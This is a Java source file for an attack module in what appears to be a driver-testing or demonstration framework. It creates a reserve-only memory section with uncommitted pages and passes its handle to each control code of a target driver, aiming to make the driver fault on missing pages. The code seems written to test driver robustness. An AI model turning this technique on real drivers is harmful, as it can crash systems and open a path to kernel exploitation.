package ntsection.drivers.attacks;

import ntsection.drivers.demo.Attack;
import ntsection.drivers.demo.Stage;
import ntsection.drivers.demo.Target;
import ntsection.nt.LongOut;
import ntsection.ob.ObjectAttributes;

import static ntsection.mm.PageProtection.*;

/**
 * Offers the driver a section of the attacker's own making, by handle, as the input of
 * every control code: a SEC_RESERVE section whose pages were never committed, so a
 * driver that adopts it and maps it into system space touches pages that are not
 * there, where no try/except can help (SV3). The attacker keeps its own handle, and with
 * it the power to write, or not back, the section the driver trusts.
 */
public final class OwnSectionAttack implements Attack {
    @Override
    public String name() {
        return "own-section";
    }

    @Override
    public String summary() {
        return "offer the driver a reserve-only section of the attacker's own as the shared section";
    }

    @Override
    public boolean aims(Target target) {
        return true;
    }

    @Override
    public void stage(Stage stage) {
        Target target = stage.target();
        stage.attack(user -> {
            LongOut section = new LongOut();
            if (!user.nt().ntCreateSection(section, SECTION_MAP_READ | SECTION_MAP_WRITE | SECTION_QUERY,
                    ObjectAttributes.unnamed(0), (long) PAGE_SIZE, PAGE_READWRITE, SEC_RESERVE, 0).isSuccess()) {
                return;
            }
            RawDevice device = new RawDevice(user);
            if (!device.open(target.device()).isSuccess()) return;
            for (int code : target.controlCodes()) device.sendLong(code, section.value);
            device.close();
            user.nt().ntClose(section.value);
        });
    }
}
